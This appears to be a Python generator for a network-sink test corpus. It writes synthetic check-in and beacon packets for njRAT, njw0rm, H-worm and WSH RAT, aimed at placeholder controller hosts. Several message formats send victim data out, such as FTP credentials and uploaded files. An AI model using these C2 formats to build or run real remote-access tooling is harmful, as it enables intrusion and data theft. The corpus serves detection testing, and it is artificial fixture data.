#!/usr/bin/python3
"""Writes the second set of first packets, from the builders' published sources.

    tests/sink-corpus-second/make.py

What a bot sends is made as its source makes it: the same functions, the same quirks, other
machines. The same seed gives the same files. All names, machines and people are invented.
"""

import base64
import pathlib
import random
import shutil

import ordinary

HERE = pathlib.Path(__file__).parent
RANDOM = random.Random(20140630)
COUNTS = {}


def put(folder, octets):
    number = COUNTS[folder] = COUNTS.get(folder, 0) + 1
    path = HERE / folder
    path.mkdir(exist_ok=True)
    (path / f"{number:03d}").write_bytes(octets)


def one(*choices):
    return RANDOM.choice(choices)


def serial():
    """A volume serial as VB's Hex() writes it: no leading zeros, so seven digits now and then."""
    return f"{RANDOM.getrandbits(32 if RANDOM.random() < 0.8 else 28):X}"


def base64_of(text, code_page="utf-8"):
    return base64.b64encode(text.encode(code_page, "replace")).decode()


def machine():
    return one("DESKTOP-" + "".join(RANDOM.choices("ABCDEFGHJKLMNPQRSTUVWXYZ0123456789", k=7)),
               "WIN-" + "".join(RANDOM.choices("ABCDEFGHJKLMNPQRSTUVWXYZ0123456789", k=11)),
               "PC-" + one("SALON", "BUREAU", "CASA", "OFIS", "HALL"),
               one("ALI", "SARA", "OMAR", "LENA") + "-PC",
               "USER-PC", "PC", "MICROSOF-" + "".join(RANDOM.choices("0123456789ABCDEF", k=6)),
               "LAPTOP-" + "".join(RANDOM.choices("ABCDEFGHJKLMNPQRSTUVWXYZ0123456789", k=8)))


def user():
    return one("admin", "Administrator", "user", "pc", "HP", "Owner", "Ben Salem", "ahmed.k", "Utilisateur",
               "المستخدم",
               "Администратор", "josé", "maria_2", "مدير", "Kullanıcı", "x", "DELL 7", "用户", "o'neil", "a|b")


def campaign():
    return one("HacKed", "Test", "HacKed By Sami", "Victim", "2014", "ضحية", "Жертва", "NYAN CAT", "vps-1",
               "facebook",
               "HaCkEd_new", "a", "Lammer", "USB", "k7", "Lime", "Office User", "new_york_3")


WINDOWS = ["", " ", "Program Manager", "Inbox - Outlook Data File - Microsoft Outlook",
           "C:\\Windows\\system32\\cmd.exe", "صفحة البداية - Google Chrome", "Новая вкладка - Google Chrome",
           "Documento1 - Word", "YouTube - Mozilla Firefox", "微信", "New Tab", "a|'|'|b - Notepad",
           "Başlat", "Untitled - Notepad\r\n", "\0", "x" * 120,
           "How to | do this - and that - Stack Exchange - Google Chrome " * 3]

SYSTEMS = ["Win 7 Ultimate SP1 x64", "Win 7 Professional SP1 x86", "Win XP ProfessionalSP3 x86",
           "Win 8.1 ProSP0 x64",
           "Win 10 ProSP0 x64", "Win 10 Home Single Language SP0 x64", "Win 11 ProSP0 x64",
           "Win 10 FamilleSP0 x64",
           "Win Server 2008 R2 Enterprise SP1 x64", "Win Vista Home Premium SP2 x86",
           "Win 10 Корпоративная SP0 x64",
           "Win 7 Édition Familiale PremiumSP1 x64", "??SP0 x86", "SP0 x86", "Win 7 Starter N  SP1 x86",
           "Win 10 Enterprise LTSC SP0 x64", "Win 7 旗舰版 SP1 x64"]

SEPARATORS = ["|'|'|"] * 12 + ["Y262SUCZ4UJJ", "|Hassan|", "|NYAN|", "|Ghost|", "|-F-|", "|Kiler|",
                               "|Coringa|",
                               "@!#&^%$", "|", "-|-", "/|/", "<+>", "|Ali|", "[#]", "|U|", "!@#"]

VERSIONS = ["0.7d", "0.7d", "0.7d", "im523", "0.7NC", "0.7.3", "0.6.4", "Green Edition", "0.11G", "0.12G",
            "S17",
            "Platinum", "v2.0", "Lime", "0.10d", "<- NjRAT 0.7d Horror Edition ->", "Hallaj PRO Rat [Fixed]"]


def framed(text, code_page="utf-8"):
    octets = text.encode(code_page, "replace") if isinstance(text, str) else text
    return str(len(octets)).encode() + b"\0" + octets


def njrat_id(code_page="utf-8"):
    # Without a readable campaign only the serial is sent; without a serial, ERR.
    return base64_of(one(*[f"{campaign()}_{serial()}"] * 8, serial(), campaign() + "_ERR"), code_page)


def njrat_ll(separator, command="ll", tail=None):
    window = one(*WINDOWS)
    fields = [command, njrat_id(), machine(), user(),
              one(f"{one(13, 14, 15, 16, 18, 19, 21, 23, 24)}-{RANDOM.randint(1, 12):02d}-{RANDOM.randint(1, 28):02d}",
                  "??-??-??") if RANDOM.random() < 0.2 else
              f"{one(13, 14, 17, 20, 22)}-{RANDOM.randint(1, 12):02d}-{RANDOM.randint(1, 28):02d}",
              "", one(*SYSTEMS), one("No", "No", "Yes"), one(*VERSIONS),
              one("..", "..", "..", "4ms", "0ms"),
              base64_of(window) if window else "",
              tail if tail is not None else one("", "", "", "".join(
                  f"{RANDOM.getrandbits(128):032x}," for _ in range(RANDOM.randint(1, 3))))]
    return separator.join(fields)


def njrat_inf(separator):
    settings = [campaign(), f"bot{RANDOM.randint(1, 99)}.controller.example:{one(1177, 5552, 8080, 288)}",
                one("TEMP", "AppData", "Desktop"), one("server.exe", "svchost.exe", "chrome.exe"),
                *[one("True", "False") for _ in range(one(4, 4, 8))]]
    return f"inf{separator}" + base64_of("\r\n".join(settings))


def njrat_07():
    for _ in range(60):
        put("njrat", framed(njrat_ll(one(*SEPARATORS))))
    for _ in range(18):  # the settings, and the window, follow at once in the same segment
        separator = one(*SEPARATORS)
        octets = framed(njrat_ll(separator)) + framed(njrat_inf(separator))
        if RANDOM.random() < 0.5:
            octets += framed(f"act{separator}" + base64_of(one(*WINDOWS) or " "))
        put("njrat", octets)
    for _ in range(16):  # cut by TCP
        octets = framed(njrat_ll(one(*SEPARATORS[:12]))) + framed(njrat_inf("|'|'|"))
        put("njrat", octets[:RANDOM.randint(60, len(octets) - 1)])
    for _ in range(6):  # other names of the same message
        put("njrat", framed(njrat_ll("|'|'|", command=one("llv", "lvv", "ll"))))
    for _ in range(5):  # "li": machine and user are base64 too
        separator = one("|'|'|", "|Ghost|")
        fields = njrat_ll(separator, command="li").split(separator)
        fields[2], fields[3] = base64_of(machine()), base64_of(user())
        put("njrat", framed(separator.join(fields)))
    for _ in range(8):  # editions append their own: antivirus, processor, memory, privileges
        put("njrat", framed(njrat_ll(one("|'|'|", "|NYAN|", "|Hassan|"), tail="") + "|'|'|".join(
            ["", one("Windows Defender", "Avast", "No Antivirus"), "Intel(R) Core(TM) i5-4460  CPU @ 3.20GHz",
             one("Administrator", "User"), "8GB"])))
    for _ in range(5):  # and some leave the end out
        separator = "|'|'|"
        put("njrat", framed(separator.join(njrat_ll(separator, tail="").split(separator)[:one(9, 10, 11)])))
    for _ in range(4):  # the machine's ANSI code page instead of UTF-8
        put("njrat", framed(njrat_ll("|'|'|").encode(one("cp1256", "cp1251", "cp1254"), "replace")))


def njrat_04():
    """Up to 0.6.4: no length, [endof] ends a message, the date has four digits, the country is told."""
    for number in range(62):
        separator = "|'|'|" if number % 6 else one("|Kiler|", "|", "##")
        window = one(*WINDOWS)
        fields = ["lv", njrat_id("cp1252"), machine(), user(),
                  one(f"{one(2012, 2013, 2014, 2015)}-{RANDOM.randint(1, 12):02d}-{RANDOM.randint(1, 28):02d}",
                      f"{one(2012, 2013, 2014, 2015)}-{RANDOM.randint(1, 12):02d}-{RANDOM.randint(1, 28):02d}",
                      "unknown"),
                  one("USA", "EGY", "DZA", "", "X", "IRQ", "MAR", "FRA", "RUS"), one(*SYSTEMS),
                  one("No", "Yes"),
                  one("0.6.4", "0.5.0E", "0.4.1a", "0.3.6", "0.3.5", "0.4.5", "0.6.2"), "..",
                  base64_of(window, "cp1256") if window else "", one("", "", "Pass.dll,")]
        octets = separator.join(fields).encode(one("utf-8", "cp1256", "cp1252"), "replace")
        if number < 46:
            octets += b"[endof]"
        if 30 <= number < 40:
            octets += b"act" + separator.encode() + base64_of(one(*WINDOWS) or " ").encode() + b"[endof]"
        elif number >= 54:
            octets = octets[:RANDOM.randint(70, len(octets) - 1)]  # cut
        put("njrat", octets)


def njrat_other():
    for _ in range(6):
        put("njrat-beacon", framed(f"act|'|'|{base64_of(one(*WINDOWS) or ' ')}"))
    for _ in range(6):
        put("njrat-beacon", framed(njrat_inf(one("|'|'|", "Y262SUCZ4UJJ", "|Hassan|"))))
    for text in ["P", "bla", "pl|'|'|2681e81bb4c4b3e6338ce2a456fb93a7|'|'|0", "kl|'|'|W0VOVEVSXQ==",
                 "CAP|'|'|",
                 "ER|'|'|CAP|'|'|Object reference not set", "sc~|'|'|192.0.2.9:1177|'|'|1366|'|'|768",
                 "CH|'|'|198.51.100.7:5552|'|'|!", "rs|'|'|TWljcm9zb2Z0IFdpbmRvd3M=",
                 "MSG|'|'|Executed As x.exe",
                 "infn|'|'|bG9ncyxib3QxLmNvbnRyb2xsZXIuZXhhbXBsZToxMTc3LEFsbFVzZXJzUHJvZmlsZQ==",
                 "post+|'|'|QzpcYS50eHQ=|'|'|2048|'|'|192.0.2.9:1177", "proc|'|'|!|'|'|4012",
                 "FM|'|'|!|'|'|QzpcO0Q6XA=="]:
        put("njrat-beacon", framed(text))
    put("njrat-beacon", b"0\0")  # a keep-alive
    for text in ["P[endof]", "act|'|'|UHJvZ3JhbSBNYW5hZ2Vy[endof]", "kl|'|'|W0VOVEVSXQ==[endof]",
                 "bla[endof]",
                 "inf|'|'|SGFjS2VkXzhFMTFCQUM4|'|'|bot4.controller.example:1177|'|'|TEMP|'|'|server.exe|'|'|server[endof]",
                 "rs|'|'|QzpcPg==[endof]", "P[endof]P[endof]P[endof]"]:
        put("njrat-beacon", text.encode())


def njw0rm():
    y = "0njxq80"

    def message(kind):
        name = one("HacKed", "usb", "Victim", "my worm", "ضحية", "w0rm",
                   "new") + f"_{RANDOM.getrandbits(32):08X}"
        system = one("WIN_7 X64 SP1", "WIN_XP X86 SP3", "WIN_7 X86 SP0", "WIN_8 X64 SP0", "WIN_VISTA X86 SP2",
                     "WIN_2008R2 X64 SP1", "WIN_81 X64 SP0", "WIN_10 X64 SP0", "WIN_XPe X86 SP3",
                     "WIN_2003 X86 SP2")
        version = one("0.3.3a", "0.3.3a", "3.5", "0.4a", "0.3.3b", "0.3")
        title = one("", "Program Manager", "C:\\WINDOWS\\system32\\cmd.exe", "Start Page - Mozilla Firefox",
                    "Removable Disk (F:)", "بحث Google - Google Chrome", "x" * 200, "Новый документ")
        usb = one("Y", "N", "N", "!")
        if kind == "locale":  # 0.3.3a and 3.5: GetLocaleInfo's abbreviation, buffer of three
            return y.join([one("lv", "lv", "lv", "Lv"), name, one("EG", "US", "EN", "AR", "FR", "RU", "TR",
                                                                  "SA", ""),
                           system, version, usb, title])
        return y.join(["lv", name, machine(), one("user", "Administrator", "admin", "مدير", "Mark"),
                       one(" ", "EG", "United States", ""), system, version, usb, title])

    for number in range(60):
        kind = "locale" if number % 2 else "host"
        octets = message(kind).encode(one("utf-8", "cp1256", "cp1252"), "replace")
        if number < 44:
            octets += b"\r\n"
        if 20 <= number < 26:
            octets += f"ac{y}Program Manager\r\n".encode()
        if 48 <= number < 56:
            octets = octets[:RANDOM.randint(48, len(octets) - 1)]
        put("njw0rm", octets)
    for text in [f"ac{y}Program Manager", f"MSG{y}Executed As calc.exe", f"MSG{y}Download ERR", f"ac{y}",
                 f"pas{y}URL: ftp://files.example:21{y}USR: mark{y}PWD: x{y}", f"MSG{y}Update ERR"]:
        put("njw0rm-beacon", text.encode() + b"\r\n")


def hworm_agent(style):
    volume, pc = f"{RANDOM.getrandbits(32):08X}", machine()
    person = one("admin", "Administrator", "user", "Ben Salem", "josé", "مدير", "пользователь", "", "o.k")
    system = one("Microsoft Windows 7 Professional ", "Microsoft Windows XP Professional",
                 "Microsoft Windows 10 Pro",
                 "Microsoft Windows 8.1 Single Language", "Майкрософт Windows 10 Домашняя",
                 "Microsoft Windows 7 Édition Intégrale ",
                 "Microsoft® Windows Vista™ Home Premium ", "Microsoft Windows Server 2012 R2 Standard",
                 "Microsoft(R) Windows(R) Server 2003, Standard Edition", "Microsoft Windows 11 Home")
    virus = one("nan-av", "nan-av", "nan-av", "Windows Defender .", "avast! Antivirus .",
                "ESET NOD32 Antivirus 8.0 .Windows Defender .",
                "Microsoft Security Essentials .", "")
    spread = one("true", "false", "false") + " - " + one("6/19/2019", "29/06/2017", "2014-06-30",
                                                         "30.06.2014", "٣٠/٠٦/٢٠١٤",
                                                        "3/7/2014", "30-06-14")
    if style == "hworm":
        return "<|>".join([volume, pc, person, system, "plus", virus, one(spread, spread, spread, "")])
    if style == "wsh-vbs":
        return "|".join(["WSHRAT", volume, pc, person, system, "plus", virus, spread,
                         one("Visual Basic", "Visual Basic-v1.2", "Visual Basic-v1.6", "Visual Basic-v2.0")])
    if style == "wsh-js":
        return "|".join(["WSHRAT", volume, pc, person, system, "plus", virus, spread,
                         one("JavaScript", "JavaScript-v1.2", "JavaScript-v2.0", "JavaScript-v3.4"),
                         *one([], ["US:United States"], ["DZ:Algeria"])])
    if style == "wsh-arrows":
        return "<|>".join(["WSHRAT", volume, pc, person, system, "plus", virus, spread, "Visual Basic-v1.2"])
    if style == "wsh-again":  # its second request leaves the name out
        return "|".join([volume, pc, person, system, "plus", virus, spread])
    if style == "kjw0rm":
        return "\\".join([one("KJw0rm_", "KJ_", "hallaj_") + volume, pc, person or "x",
                          one("Win 7 Professional SP1 x64", "Win7 Ultimate SP1 x32", "Win 10 Pro SP0 x64"),
                          one("20", "213", "966", "1"), "0.5X", one("Yesv4.0", "Nov2.0.50727", "No"),
                          one("No", "Yes"), ""])
    return "\\".join([one("vict_", "Vict_", "Jaw_", "HacKed_", "new_") + volume, pc, person or "x", system,
                      one("Windows Defender", "Nothing", "Avast Antivirus"), "", one("YES", "NO"),
                      one("TRUE", "FALSE"), ""])


def request(target, agent, body=b"", method="POST", code_page="utf-8"):
    """As MSXML 2, MSXML 3 on later systems, WinHTTP, and proxies on the way write it."""
    host = one("bot1.controller.example", "203.0.113.80",
               "worm.controller.example") + one("", ":991", ":1177", ":7755", ":80")
    shape = RANDOM.randint(0, 9)
    name = {2: "USER-AGENT", 3: "User-Agent", 4: "User-agent"}.get(shape, one("user-agent", "User-Agent"))
    head = {
        "accept": "Accept: */*", "language": one("Accept-Language: en-us", "Accept-Language: ar-EG,ar;q=0.5",
                                                 "accept-language: fr"),
        "agent": f"{name}:{'' if shape == 4 else ' '}{agent}" if agent is not None else
                 "User-Agent: Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1; WOW64; Trident/7.0; SLCC2; .NET CLR 2.0.50727)",
        "cpu": "UA-CPU: AMD64", "encoding": "Accept-Encoding: gzip, deflate",
        "host": ("host: " if shape == 5 else "Host: ") + host, "length": f"Content-Length: {len(body)}",
        "connection": "Connection: Keep-Alive", "cache": one("Cache-Control: no-cache", "Pragma: no-cache")}
    order = {0: "accept language agent encoding host length connection cache",
             1: "accept agent cpu encoding host length connection cache",
             2: "host agent length", 3: "agent host accept length connection",
             4: "host length agent accept-", 5: "connection accept agent host length",
             6: "accept agent encoding host connection cache", 7: "cache connection accept agent length host",
             8: "agent", 9: "accept language length agent encoding host connection"}[shape].split()
    version = "HTTP/1.0" if shape in (2, 8) else "HTTP/1.1"
    if shape == 3:
        target = f"http://{host}{target}"
    lines = [f"{method} {target} {version}"] + [head[part] for part in order if part in head]
    return "\r\n".join(lines).encode(code_page, "replace") + b"\r\n\r\n" + body


def hworm():
    for _ in range(38):
        put("hworm", request(one("/is-ready", "/is-ready", "/is-ready", "/IS-READY", "/Is-Ready",
                                 "/is-ready?"),
                             hworm_agent("hworm"), code_page=one("utf-8", "cp1256", "cp1252")))
    for style, count in (("wsh-vbs", 10), ("wsh-js", 14), ("wsh-arrows", 4), ("wsh-again", 4)):
        for _ in range(count):
            put("hworm", request("/is-ready", hworm_agent(style), code_page=one("utf-8", "cp1252")))
    for _ in range(8):
        put("hworm", request(one("/Vre", "/Vre", "/vre", "/VRE"), hworm_agent("vjw0rm")))
    for _ in range(6):
        put("hworm", request(one("/ready", "/is-ready"), hworm_agent("kjw0rm")))
    for _ in range(6):
        put("hworm", request("/is-ready", hworm_agent("hworm"), method=one("GET", "GET", "get", "post")))
    for _ in range(6):  # cut after the agent
        octets = request("/is-ready", hworm_agent("hworm"))
        put("hworm", octets[:octets.index(b"plus") + RANDOM.randint(4, 30)])
    for target, body in [
            ("/is-enum-driver", b"C:\\|2<|>D:\\|4<|>E:\\|1<|>"), ("/IS-enum-Driver", b"C:|2<|>"),
            ("/is-enum-faf", b"C:\\<|>Users||d|17<|>a.txt|12|f|32<|>"), ("/IS-enum-FAF", b"D:\\<|>"),
            ("/is-enum-process", b"System|4|<|>smss.exe|260|<|>"), ("/is-enum-path", b"C:\\Users<|>"),
            ("/is-cmd-shell", b" Volume in drive C has no label.\r\n"),
        ("/is-processes", b"explorer.exe^1988^C:\\Windows|"),
            ("/is-logs", b"C:\\Users\\x\\wshlogs|"), ("/update-status|SDK+Already+Installed", b""),
            ("/update-status|Client+Not+Elevated", b""), ("/open-rdp|200|150", b""), ("/is-bring-log", b"x")]:
        put("hworm-beacon", request(target, hworm_agent(one("hworm", "wsh-vbs", "wsh-js")), body))
    for octets in (b"new_houdini\r\n",
                   b"NEW_HOUDINI|USER-PC|ADMIN|WIN_7|X64|NAN-AV\r\n"):  # of 2016, over TCP alone
        put("hworm-beacon", octets)
    for target, body in [  # these two are sent without the agent
            ("/is-sending<|>C:\\Users\\x\\a.exe", b""), ("/is-recving<|>C:\\Users\\x\\report.doc",
                                                         b"\xd0\xcf\x11\xe0" + bytes(60)),
            ("/is-sending%3C%7C%3EC:%5Cb.vbs", b""), ("/is-recving%3c|%3eC:%5ckeys.txt", b"x" * 30)]:
        put("hworm-beacon", request(target, None, body))


def main():
    for folder in HERE.iterdir():
        if folder.is_dir() and folder.name != "__pycache__":
            shutil.rmtree(folder)
    njrat_07()
    njrat_04()
    njrat_other()
    njw0rm()
    hworm()
    ordinary.write(put, RANDOM)
    for folder, count in sorted(COUNTS.items()):
        print(f"{folder:14} {count}")


if __name__ == "__main__":
    main()
